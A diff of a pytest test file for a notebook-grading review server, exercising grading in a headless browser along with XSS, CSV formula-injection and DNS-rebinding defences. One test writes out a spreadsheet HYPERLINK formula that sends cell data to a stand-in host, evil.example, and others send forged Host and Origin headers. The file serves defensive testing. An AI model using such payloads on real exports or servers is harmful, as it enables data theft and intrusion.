@@ -1,8 +1,12 @@
 """People grade a class's written answer and bonus in a real browser (headless Chromium driven by Selenium through
-Debian's chromium-driver), and grading the automatic part again keeps every manual score.
+Debian's chromium-driver), as graders use it and as an attacker would; grading the automatic part again keeps
+every manual score.
 
-One class of two notebooks is graded once for the module; the review server is started by the test on 127.0.0.1
-with a free port and stopped after it."""
+One class of five notebooks is graded once for the module (amy and bob: the bonus or not; cat: a written answer
+with formulas, a table, an attached plot and outputs of every image type; dan: a hostile answer; eve: the
+handout's placeholder). One review server runs for the module on 127.0.0.1 with a free port, one browser for the
+module; the accounts test starts its own server on a copy of the class, with a second browser. A failing test
+leaves a screenshot of every browser in its tmp_path."""
 import csv
 import json
 import shutil
@@ -10,16 +14,19 @@ import socket
 import subprocess
 import sys
 import time
+import urllib.error
+import urllib.request
 
 import pytest
 
 from conftest import FAST, ROOT
 from grader.batch import grade_all as batch
 from grader.review import publish, store
-from manual_notebooks import notebook
+from manual_notebooks import HOSTILE, notebook, written_notebook
 
 DRIVER = shutil.which("chromedriver")
 BROWSER = shutil.which("chromium") or shutil.which("chromium-browser")
+NAMES = ["amy", "bob", "cat", "dan", "eve"]
 
 
 @pytest.fixture(scope="module")
@@ -28,6 +35,11 @@ def graded_once(tmp_path_factory, rnn):
     (root / "in").mkdir()
     (root / "in" / "amy.ipynb").write_text(notebook())
     (root / "in" / "bob.ipynb").write_text(notebook(bonus=False, claims=""))
+    (root / "in" / "cat.ipynb").write_text(written_notebook())
+    (root / "in" / "dan.ipynb").write_text(written_notebook(HOSTILE, outputs=False))
+    (root / "in" / "eve.ipynb").write_text(notebook(bonus=False).replace(
+        "In BPTT, dWaa sums over t the products of da<t>/da<t-1> = diag(1 - a^2) Waa; with tanh saturating these"
+        " shrink.", "YOUR ANSWER HERE"))
     batch.grade_all(root / "in", root / "out", rnn, FAST, batch.Options(workers=2))
     return root
 
@@ -41,6 +53,10 @@ def graded_class(graded_once, tmp_path):
 
 def gradebook_rows(out):
     return {row["student"]: row for row in csv.DictReader((out / "gradebook.csv").open())}
+
+
+def items_of(out, name):
+    return {i["id"]: i for i in json.loads((out / name / "report.json").read_text())["manual"]["items"]}
 
 
 def test_grading_again_keeps_every_manual_score(graded_class, rnn):
@@ -59,6 +75,8 @@ def test_grading_again_keeps_every_manual_score(graded_class, rnn):
     assert "manual.vanishing_gradients: Written" in (out / "bob" / "results.json").read_text()
     bonus = {i["id"]: i for i in after["manual"]["items"]}["sentiment_bonus"]["answer"]
     assert not bonus["found"] and "no markdown heading holds 'sentiment analysis'" in bonus["message"]
+    eve = items_of(out, "eve")["vanishing_gradients"]["answer"]
+    assert not eve["found"] and "still hold the handout's placeholder" in eve["message"]
 
 
 def test_the_bonus_cells_were_shown_not_run(graded_class):
@@ -78,41 +96,68 @@ def free_port():
         return probe.getsockname()[1]
 
 
-@pytest.fixture
+def start(out, port, *options):
+    """`python -m grader review OUT` on `port`, up and answering; returns the process."""
+    process = subprocess.Popen([sys.executable, "-m", "grader", "review", str(out), "--port", str(port), *options],
+                               cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+    deadline = time.monotonic() + 30
+    while time.monotonic() < deadline:
+        try:
+            socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
+            return process
+        except OSError:
+            assert process.poll() is None, process.stdout.read()
+            time.sleep(0.1)
+    process.kill()
+    raise AssertionError(f"the review server did not answer on port {port} within 30 s")
+
+
+def stop(process):
+    process.terminate()
+    process.wait(timeout=10)
+
+
+@pytest.fixture(scope="module")
 def server(graded_class):
     port = free_port()
-    process = subprocess.Popen([sys.executable, "-m", "grader", "review", str(graded_class / "out"), "--port",
-                                str(port), "--grader", "ta2"], cwd=ROOT, stdout=subprocess.PIPE,
-                               stderr=subprocess.STDOUT, text=True)
-    try:
-        deadline = time.monotonic() + 20
-        while time.monotonic() < deadline:
-            try:
-                socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
-                break
-            except OSError:
-                assert process.poll() is None, process.stdout.read()
-                time.sleep(0.1)
-        yield f"http://127.0.0.1:{port}"
-    finally:
-        process.terminate()
-        process.wait(timeout=10)
+    process = start(graded_class / "out", port, "--grader", "ta2")
+    yield f"http://127.0.0.1:{port}"
+    stop(process)
 
 
-@pytest.fixture
-def browser():
+@pytest.fixture(scope="module")
+def browsers():
+    """Makes headless Chromium browsers (each its own profile: its own cookies), all closed with the module."""
     if DRIVER is None or BROWSER is None:
         pytest.skip("no chromium and chromedriver here (`make test` installs both as root)")
     from selenium import webdriver
     from selenium.webdriver.chrome.service import Service
-    options = webdriver.ChromeOptions()
-    options.binary_location = BROWSER
-    for flag in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1280,1000"):
-        options.add_argument(flag)
-    driver = webdriver.Chrome(options=options, service=Service(DRIVER))
-    driver.implicitly_wait(5)
+    made = []
+
+    def new():
+        options = webdriver.ChromeOptions()
+        options.binary_location = BROWSER
+        for flag in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1280,1000"):
+            options.add_argument(flag)
+        driver = webdriver.Chrome(options=options, service=Service(DRIVER))
+        driver.implicitly_wait(5)
+        made.append(driver)
+        return driver
+
+    new.made = made
+    yield new
+    for driver in made:
+        driver.quit()
+
+
+@pytest.fixture
+def browser(browsers, request, tmp_path):
+    driver = browsers.made[0] if browsers.made else browsers()
+    driver.delete_all_cookies()
     yield driver
-    driver.quit()
+    if getattr(request.node, "rep_call", None) is not None and request.node.rep_call.failed:
+        for number, each in enumerate(browsers.made):  # what each browser showed when the test failed
+            each.save_screenshot(str(tmp_path / f"browser-{number}.png"))
 
 
 def shows(browser, element_id, expected):
@@ -129,6 +174,16 @@ def shows(browser, element_id, expected):
     return browser.find_element(By.ID, element_id).text
 
 
+def request(url, data=None, **headers):
+    """(status, body) of a request made outside any browser, with the headers given (a forged Host)."""
+    made = urllib.request.Request(url, data=data, headers=headers)
+    try:
+        with urllib.request.urlopen(made, timeout=10) as answer:
+            return answer.status, answer.read().decode()
+    except urllib.error.HTTPError as error:
+        return error.code, error.read().decode()
+
+
 def test_graders_grade_in_the_browser_and_the_gradebook_follows(graded_class, server, browser, tmp_path):
     from selenium.webdriver.common.by import By
     from selenium.webdriver.common.keys import Keys
@@ -136,18 +191,19 @@ def test_graders_grade_in_the_browser_and_the_gradebook_follows(graded_class, se
     store.save(out, "bob", "vanishing_gradients", 3, [0, 2], "clear", "ta1")  # graded earlier, by another TA
     find = browser.find_element
     browser.get(server + "/")
-    assert find(By.ID, "progress-sentiment_bonus").text == "0 / 2"
+    assert find(By.ID, "progress-sentiment_bonus").text == "0 / 5"
     find(By.ID, "open-sentiment_bonus").click()
-    assert find(By.ID, "student").text == "amy" and find(By.ID, "position").text == "1 / 2"
+    assert find(By.ID, "student").text == "amy" and find(By.ID, "position").text == "1 / 5"
     assert "val_accuracy: 0.8604" in find(By.ID, "answer").text and find(By.CSS_SELECTOR, "#answer img")
     assert "0.86" in find(By.ID, "numbers").text
+    assert not browser.find_elements(By.CSS_SELECTOR, "input[name=grader]")  # the name is the server's, not typed
     body = find(By.TAG_NAME, "body")
     body.send_keys("1")  # keyboard: rubric items 1, 2 and 3, then Enter saves and goes to the next student
     body.send_keys("2")
     body.send_keys("3")
     assert find(By.ID, "points").text == "8"
     body.send_keys(Keys.ENTER)
-    assert shows(browser, "student", "bob") == "bob" and find(By.ID, "done").text == "1 / 2"
+    assert shows(browser, "student", "bob") == "bob" and find(By.ID, "done").text == "1 / 5"
     assert find(By.ID, "missing").text.startswith("No answer: no answer found: no cell is tagged 'bonus'")
     find(By.ID, "rubric-4").click()  # a penalty alone: never below zero
     find(By.ID, "comment").send_keys("no bonus cells in the notebook")
@@ -171,25 +227,270 @@ def test_graders_grade_in_the_browser_and_the_gradebook_follows(graded_class, se
     find(By.CSS_SELECTOR, "#import input[type=file]").send_keys(str(sheet))
     find(By.CSS_SELECTOR, "#import button").click()
     assert shows(browser, "message", "imported") == "imported 1 scores"
-    assert find(By.ID, "progress-vanishing_gradients").text == "2 / 2"
+    assert find(By.ID, "progress-vanishing_gradients").text == "2 / 5"
     rows = gradebook_rows(out)
     assert rows["amy"]["vanishing_gradients"] == "4" and rows["amy"]["pending"] == "0"
-    report = json.loads((out / "amy" / "report.json").read_text())
-    graded = {i["id"]: i for i in report["manual"]["items"]}
+    graded = items_of(out, "amy")
     assert graded["vanishing_gradients"]["grader"] == "ta3" and graded["sentiment_bonus"]["grader"] == "ta2"
+    # A row naming rubric items the item doesn't have imports nothing, and the page says which line.
+    sheet.write_text("student,item,points,rubric_items\ncat,vanishing_gradients,1,2\nbob,sentiment_bonus,3,9;17\n")
+    find(By.CSS_SELECTOR, "#import input[type=file]").send_keys(str(sheet))
+    find(By.CSS_SELECTOR, "#import button").click()
+    assert "line 3: 'sentiment_bonus' has no rubric item '9'" in shows(browser, "message", "nothing imported")
+    assert "vanishing_gradients" not in store.load(out).get("cat", {})
     find(By.ID, "publish").click()
     shows(browser, "message", "index.html written")
-    page = (out / "index.html").read_text()
-    assert 'id="manual"' in page and "<td class='n'>2 / 2</td><td class='n'>4 / 10</td>" in page
+    assert 'id="manual"' in (out / "index.html").read_text()
 
 
-def test_a_save_from_a_stale_page_is_refused_and_shows_the_other_graders_score(graded_class, server, browser):
+def test_a_refused_save_keeps_the_graders_picks_beside_the_other_graders_score(graded_class, server, browser):
     from selenium.webdriver.common.by import By
-    store.save(graded_class / "out", "bob", "vanishing_gradients", 3, [0, 2], "clear", "ta1")
+    out = graded_class / "out"
+    store.save(out, "bob", "vanishing_gradients", 3, [0, 2], "clear", "ta1")  # bob's saved picks: 1 and 3
     browser.get(server + "/grade/vanishing_gradients/bob")
-    saved = store.get(graded_class / "out", "bob", "vanishing_gradients")
-    store.save(graded_class / "out", "bob", "vanishing_gradients", 1, [2], "", "ta9", saved["version"])
+    saved = store.get(out, "bob", "vanishing_gradients")
+    store.save(out, "bob", "vanishing_gradients", 1, [2], "ta9's view", "ta9", saved["version"])
     browser.find_element(By.ID, "rubric-0").click()  # this page still has the version before ta9's save
+    browser.find_element(By.ID, "rubric-2").click()  # (bob's saved picks were 1 and 3: now 3 alone)
+    browser.find_element(By.ID, "comment").clear()
+    browser.find_element(By.ID, "comment").send_keys("my own comment")
     browser.find_element(By.ID, "save-stay").click()
     shows(browser, "message", "not saved: ta9 saved this score")
-    assert store.get(graded_class / "out", "bob", "vanishing_gradients")["grader"] == "ta9"
+    assert store.get(out, "bob", "vanishing_gradients")["grader"] == "ta9"
+    assert "ta9's view" in browser.find_element(By.ID, "theirs").text
+    assert [b.is_selected() for b in browser.find_elements(By.CSS_SELECTOR, "input[name=rubric]")] == \
+        [False, False, False]  # mine: 1 unpicked, 3 unpicked
+    assert browser.find_element(By.ID, "comment").get_attribute("value") == "my own comment"
+    browser.find_element(By.ID, "rubric-1").click()
+    browser.find_element(By.ID, "save-stay").click()  # saved over theirs, having seen it
+    shows(browser, "graded-by", "graded by ta2")
+    assert store.get(out, "bob", "vanishing_gradients")["comment"] == "my own comment"
+
+
+def test_a_written_answer_shows_its_formulas_table_and_images(graded_class, server, browser, tmp_path):
+    from selenium.webdriver.common.by import By
+    browser.get(server + "/grade/vanishing_gradients/cat")
+    answer = browser.find_element(By.ID, "answer")
+    assert "$$" not in answer.text and "\\frac" not in answer.text and "\\begin" not in answer.text
+    drawn = browser.execute_script("""
+        const block = [...document.querySelectorAll('#answer math[display=block]')];
+        const images = [...document.querySelectorAll('#answer img')];
+        return {blocks: block.length, inline: document.querySelectorAll('#answer math[display=inline]').length,
+                tallest: Math.max(...block.map(m => m.getBoundingClientRect().height)),
+                fractions: document.querySelectorAll('#answer mfrac').length,
+                tables: document.querySelectorAll('#answer mtable').length,
+                rows: document.querySelectorAll('#answer .markdown table tr').length,
+                heading: document.querySelector('#answer .markdown h3').textContent,
+                images: images.map(i => [i.src.slice(0, 20), i.naturalWidth]),
+                highlighted: document.querySelectorAll('#answer .highlight span').length,
+                html: document.querySelectorAll('#answer .output-html table td').length,
+                unparsed: document.querySelectorAll('#answer .tex').length}""")
+    # Display formulas drawn as MathML: a fraction over a sum stands taller than a line of text.
+    assert drawn["blocks"] >= 3 and drawn["inline"] >= 8 and drawn["tallest"] > 40 and drawn["fractions"] >= 5
+    assert drawn["tables"] >= 2 and drawn["rows"] == 3 and drawn["heading"] == "Why do gradients vanish?"
+    assert drawn["unparsed"] == 0 and drawn["highlighted"] > 5 and drawn["html"] == 2
+    kinds = sorted(src.split(";")[0] for src, width in drawn["images"] if width > 0)
+    assert kinds == ["data:image/gif", "data:image/jpeg", "data:image/png", "data:image/png",
+                     "data:image/svg+xml"], drawn["images"]  # the attached plot and four outputs, all drawn
+    browser.save_screenshot(str(tmp_path / "written-answer.png"))
+
+
+def test_a_hostile_answer_runs_nothing_and_loads_nothing(graded_class, server, browser):
+    from selenium.webdriver.common.by import By
+    browser.get(server + "/grade/vanishing_gradients/dan")
+    assert "The answer: gradients vanish." in browser.find_element(By.ID, "answer").text
+    for selector in ("script", "iframe", "style", "form", "svg", "[onerror]", "[style]", "img[src='x']"):
+        assert browser.find_elements(By.CSS_SELECTOR, f"#answer {selector}") == [], selector
+    links = browser.find_elements(By.ID, "evil-link") + browser.find_elements(By.CSS_SELECTOR, "#answer a")
+    for link in links:
+        assert not (link.get_attribute("href") or "").startswith("javascript"), link.get_attribute("href")
+        link.click()
+    loaded = browser.execute_script("return [window.pwned, performance.getEntriesByType('resource').map(e => e.name)]")
+    assert loaded[0] is None
+    assert all(url.startswith(server) for url in loaded[1]), loaded[1]  # the app's own CSS and script only
+    assert browser.execute_script("return getComputedStyle(document.body).backgroundImage") == "none"
+
+
+def test_a_rubric_edit_applies_to_every_answer_graded_with_it(graded_class, server, browser):
+    from selenium.webdriver.common.by import By
+    out = graded_class / "out"
+    before = {n: (items_of(out, n)["vanishing_gradients"].get("points"), store.load(out).get(n, {}).get(
+        "vanishing_gradients", {}).get("rubric_items")) for n in NAMES}
+    assert before["amy"] == (4, [0, 1, 2]) and before["bob"] == (1, [1])  # item 1 (2 points) picked by amy only
+    browser.get(server + "/item/vanishing_gradients?rubric=0")
+    assert browser.find_element(By.ID, "shown").text == "1 of 5 shown"  # the filter: amy alone picked item 1
+    form = browser.find_element(By.ID, "edit-0")
+    form.find_element(By.NAME, "points").clear()
+    form.find_element(By.NAME, "points").send_keys("1.5")
+    form.find_element(By.NAME, "text").clear()
+    form.find_element(By.NAME, "text").send_keys("BPTT: dW sums the terms of every step (the product of Jacobians)")
+    form.find_element(By.TAG_NAME, "button").click()
+    assert "1 scores changed" in shows(browser, "message", "rubric item 1 saved")
+    change = browser.find_element(By.ID, "changes").text
+    assert "ta2" in change and "+2 BPTT: dW is a sum" in change and "+1.5 BPTT: dW sums the terms" in change
+    amy = items_of(out, "amy")["vanishing_gradients"]
+    assert amy["points"] == 3.5 and amy["rubric"][0]["points"] == 1.5 and gradebook_rows(out)["amy"][
+        "vanishing_gradients"] == "3.5"
+    assert "+1.5 BPTT: dW sums the terms" in (out / "amy" / "report.md").read_text()
+    assert items_of(out, "bob")["vanishing_gradients"]["points"] == 1  # bob didn't pick it
+    browser.get(server + "/item/vanishing_gradients?status=ungraded")
+    assert browser.find_element(By.ID, "shown").text == "3 of 5 shown"
+    browser.get(server + "/grade/vanishing_gradients/amy")
+    assert browser.find_element(By.ID, "rubric-0").text.startswith("1 +1.5 BPTT: dW sums")
+    # A per-answer adjustment needs its reason, and the points follow the picks and the adjustment.
+    browser.find_element(By.ID, "adjustment").send_keys("-0.5")
+    browser.find_element(By.ID, "save-stay").click()
+    shows(browser, "message", "not saved: an adjustment")
+    browser.find_element(By.ID, "reason").send_keys("no remedy named")
+    browser.find_element(By.ID, "save-stay").click()
+    shows(browser, "graded-by", "graded by ta2")
+    amy = items_of(out, "amy")["vanishing_gradients"]
+    assert (amy["points"], amy["adjustment"], amy["adjustment_reason"]) == (3.0, -0.5, "no remedy named")
+
+
+def test_next_ungraded_and_unsaved_picks_warn_before_leaving(graded_class, server, browser):
+    from selenium.webdriver.common.by import By
+    browser.get(server + "/")
+    browser.find_element(By.ID, "ungraded-vanishing_gradients").click()
+    assert shows(browser, "student", "cat") == "cat"  # amy and bob are graded
+    body = browser.find_element(By.TAG_NAME, "body")
+    body.send_keys("2")
+    body.send_keys("j")
+    assert browser.find_element(By.ID, "unsaved").is_displayed()
+    assert browser.find_element(By.ID, "student").text == "cat"  # still here, the pick still made
+    assert browser.find_element(By.CSS_SELECTOR, "#rubric-1 input").is_selected()
+    body.send_keys("j")  # a second press leaves without them
+    assert shows(browser, "student", "dan") == "dan"
+    assert "vanishing_gradients" not in store.load(graded_class / "out").get("cat", {})
+    browser.find_element(By.TAG_NAME, "body").send_keys("k")  # nothing picked: no warning
+    assert shows(browser, "student", "cat") == "cat"
+    # The comment saved on bob is offered for reuse.
+    browser.find_element(By.CSS_SELECTOR, "button.reuse").click()
+    assert browser.find_element(By.ID, "comment").get_attribute("value") == "my own comment"
+
+
+def test_the_export_neutralizes_formulas_and_a_rebound_host_is_refused(graded_class, server, browser):
+    from selenium.webdriver.common.by import By
+    browser.get(server + "/grade/vanishing_gradients/eve")
+    assert browser.find_element(By.ID, "missing").text.startswith("No answer: nothing written: the cells under the heading")
+    browser.find_element(By.ID, "comment").send_keys('=HYPERLINK("http://evil.example/?"&A1,"see")')
+    browser.find_element(By.ID, "save-stay").click()
+    shows(browser, "graded-by", "graded by ta2")
+    status, text = request(server + "/export.csv")
+    row = next(csv.DictReader(text.splitlines()[:1] + [line for line in text.splitlines() if line.startswith("eve,")]))
+    assert status == 200 and row["comment"] == '\'=HYPERLINK("http://evil.example/?"&A1,"see")'
+    # DNS rebinding: a page of evil.example whose name now points at 127.0.0.1 reads and posts as same-origin.
+    port = server.rsplit(":", 1)[1]
+    assert request(server + "/export.csv", Host=f"evil.example:{port}")[0] == 400
+    posted = request(server + "/publish", data=b"", Host=f"evil.example:{port}", Origin=f"http://evil.example:{port}")
+    assert posted[0] == 400
+    assert request(server + "/publish", data=b"", Origin=server)[0] == 400  # no form token
+    assert request(server + "/export.csv", Host=f"localhost:{port}")[0] == 200
+
+
+def test_anonymous_grading_hides_names_in_a_stable_order_per_item(graded_class, server, browser):
+    from selenium.webdriver.common.by import By
+    out = graded_class / "out"
+    browser.get(server + "/")
+    browser.find_element(By.CSS_SELECTOR, "#anonymous input[type=checkbox]").click()
+    browser.find_element(By.ID, "set-anonymous").click()
+    shows(browser, "message", "names hidden")
+    try:
+        orders = {}
+        for item in ("vanishing_gradients", "sentiment_bonus"):
+            browser.get(server + f"/item/{item}")
+            links = browser.find_elements(By.CSS_SELECTOR, "#scores a")
+            assert [a.text for a in links] == [f"submission {n}" for n in range(1, 6)]
+            orders[item] = [a.get_attribute("href").rsplit("/", 1)[1] for a in links]
+            page = browser.page_source
+            assert not any(f">{name}<" in page or f"/{name}\"" in page for name in NAMES), item
+        assert sorted(orders["vanishing_gradients"]) == sorted(orders["sentiment_bonus"])  # the same students
+        browser.get(server + "/grade/vanishing_gradients/" + orders["vanishing_gradients"][0])
+        assert browser.find_element(By.ID, "student").text == "submission 1"
+        assert browser.current_url.rsplit("/", 1)[1] not in NAMES
+        before = store.load(out)
+        browser.find_element(By.ID, "rubric-1").click()
+        browser.find_element(By.ID, "save").click()  # save and next: the next of this item's order
+        assert shows(browser, "student", "submission 2") == "submission 2"
+        after = store.load(out)
+        changed = [n for n in NAMES if after.get(n, {}).get("vanishing_gradients") !=
+                   before.get(n, {}).get("vanishing_gradients")]
+        assert len(changed) == 1 and after[changed[0]]["vanishing_gradients"]["grader"] == "ta2"
+        assert browser.get(server + "/grade/vanishing_gradients/amy") is None and "Not Found" in browser.page_source
+        browser.get(server + "/item/vanishing_gradients")
+        again = [a.get_attribute("href").rsplit("/", 1)[1] for a in browser.find_elements(By.CSS_SELECTOR, "#scores a")]
+        assert again == orders["vanishing_gradients"]  # stable across pages (and restarts: the seed is in the database)
+    finally:
+        browser.get(server + "/")
+        browser.find_element(By.CSS_SELECTOR, "#anonymous input[type=checkbox]").click()
+        browser.find_element(By.ID, "set-anonymous").click()
+        shows(browser, "message", "names shown")
+    browser.get(server + "/item/vanishing_gradients")
+    assert [a.text for a in browser.find_elements(By.CSS_SELECTOR, "#scores a")] == NAMES  # shown after
+    assert browser.find_element(By.ID, "student") if browser.get(server + "/grade/vanishing_gradients/amy") is None \
+        else False
+
+
+def log_in(driver, url, name, password):
+    from selenium.webdriver.common.by import By
+    driver.get(url + "/")
+    driver.find_element(By.ID, "name").send_keys(name)
+    driver.find_element(By.ID, "password").send_keys(password)
+    driver.find_element(By.ID, "log-in").click()
+    assert shows(driver, "grader", name) == name
+
+
+def test_two_graders_log_in_from_two_browsers(graded_class, browsers, browser, tmp_path):
+    from selenium.webdriver.common.by import By
+    out = tmp_path / "out"
+    shutil.copytree(graded_class / "out", out)
+    port = free_port()
+    refused = subprocess.run([sys.executable, "-m", "grader", "review", str(out), "--host", "0.0.0.0", "--port",
+                              str(port)], cwd=ROOT, capture_output=True, text=True, timeout=60)
+    assert refused.returncode == 2 and "needs graders' accounts" in refused.stderr
+    for name, password in (("ta1", "correct horse 1"), ("ta2", "battery staple 2")):
+        added = subprocess.run([sys.executable, "-m", "grader", "review", str(out), "--add-grader", name],
+                               input=password + "\n", cwd=ROOT, capture_output=True, text=True, timeout=60)
+        assert added.returncode == 0, added.stderr
+    assert "correct horse" not in (out / store.NAME).read_bytes().decode("latin-1")  # hashed
+    process = start(out, port)
+    try:
+        url = f"http://127.0.0.1:{port}"
+        browser.get(url + "/grade/vanishing_gradients/cat")
+        assert "/login" in browser.current_url  # no account, no page
+        browser.find_element(By.ID, "name").send_keys("ta1")
+        browser.find_element(By.ID, "password").send_keys("wrong password")
+        browser.find_element(By.ID, "log-in").click()
+        shows(browser, "message", "wrong name or password")
+        other = browsers.made[1] if len(browsers.made) > 1 else browsers()
+        other.delete_all_cookies()
+        log_in(browser, url, "ta1", "correct horse 1")
+        log_in(other, url, "ta2", "battery staple 2")
+        for driver in (browser, other):
+            driver.get(url + "/grade/vanishing_gradients/cat")
+        browser.find_element(By.ID, "rubric-0").click()
+        browser.find_element(By.ID, "save-stay").click()
+        shows(browser, "graded-by", "graded by ta1")
+        other.find_element(By.ID, "rubric-2").click()
+        other.find_element(By.ID, "save-stay").click()
+        assert "not saved: ta1 saved this score" in shows(other, "message", "not saved")
+        assert other.find_element(By.CSS_SELECTOR, "#rubric-2 input").is_selected()
+        other.find_element(By.ID, "save-stay").click()
+        shows(other, "graded-by", "graded by ta2")
+        assert items_of(out, "cat")["vanishing_gradients"]["grader"] == "ta2"
+        browser.find_element(By.ID, "logout").click()
+        browser.get(url + "/export.csv")
+        assert "/login" in browser.current_url
+        held = socket.create_connection(("127.0.0.1", port))  # a browser's kept-alive connection: stopping the
+        held.sendall(f"GET /login HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())  # server closes it
+        assert held.recv(100).startswith(b"HTTP/1.1 200")  # first, which leaves its port in TIME_WAIT
+    finally:
+        stop(process)
+    # Stopped and started again on the same port at once (a port in TIME_WAIT is reused).
+    again = start(out, port)
+    try:
+        assert request(f"http://127.0.0.1:{port}/login")[0] == 200
+    finally:
+        stop(again)
+        held.close()
+
